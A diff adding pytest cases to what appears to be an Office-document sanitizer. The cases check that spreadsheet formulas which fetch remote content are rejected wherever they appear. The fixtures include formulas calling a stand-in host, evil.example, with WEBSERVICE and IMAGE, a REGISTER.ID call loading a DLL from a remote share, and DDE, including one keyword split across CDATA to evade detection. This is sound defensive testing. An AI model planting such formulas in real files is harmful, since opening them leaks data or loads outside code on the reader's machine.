@@ -229,3 +229,54 @@ def test_field_may_stand_on_several_lines_of_the_file():
     """Between two pieces of its text there is nothing of it, however the file is broken into lines."""
     link = '<w:instrText>HYPERLINK "https://example.jp/</w:instrText>\n<w:instrText>LINK"</w:instrText>'
     assert kept(fields(link)).namelist() == list(made.docx_parts())
+
+
+@pytest.mark.parametrize(
+    "formula",
+    [
+        '=WEBSERVICE("https://evil.example/")',
+        '=_xlfn.WEBSERVICE("https://evil.example/")',
+        '=SUM(1,_xlfn.IMAGE ("https://evil.example/a.png"))',
+        '=_xlfn._xlws.STOCKHISTORY("MSFT",1)',
+        '=rtd("a.b",,"c")',
+        '=REGISTER.ID("\\\\evil\\a.dll","b")',
+        '=DDE("a","b","c")',
+        '="日本"&WEBSERVICE("https://evil.example/")',
+    ],
+)
+def test_formula_that_fetches_is_refused(formula):
+    assert why_not(made.calculated(formula)) == "from_elsewhere"
+
+
+@pytest.mark.parametrize(
+    "formula",
+    [
+        '=HYPERLINK("https://example.jp/","私の作品")',
+        "='Image (2)'!A1",
+        "=LINK*2",
+        "=MYIMAGE(1)",
+        "WEBSERVICE(とIMAGE(",
+    ],
+)
+def test_formula_that_fetches_nothing_stays(formula):
+    assert "xl/worksheets/sheet1.xml" in kept(made.calculated(formula)).namelist()
+
+
+FETCHING = 'WEBSERVICE("https://evil.example/")'
+
+
+@pytest.mark.parametrize(
+    "element",
+    [
+        f"<definedName name='a'>{FETCHING}</definedName>",
+        f"<dataValidation><formula1>1</formula1><formula2>{FETCHING}</formula2></dataValidation>",
+        f"<cfRule><formula>{FETCHING}</formula></cfRule>",
+        f"<calculatedColumnFormula>{FETCHING}</calculatedColumnFormula>",
+        f"<totalsRowFormula>{FETCHING}</totalsRowFormula>",
+        f"<f>1+A</f><f>{FETCHING}</f>",
+        "<f>WEB<![CDATA[SERVICE]]>(A1)</f>",
+    ],
+)
+def test_formula_that_fetches_is_refused_wherever_it_stands(element):
+    part = f'<a xmlns="http://schemas.openxmlformats.org/spreadsheetml/2006/main">{element}</a>'.encode()
+    assert why_not(docx(**{"xl/a.xml": part})) == "from_elsewhere"
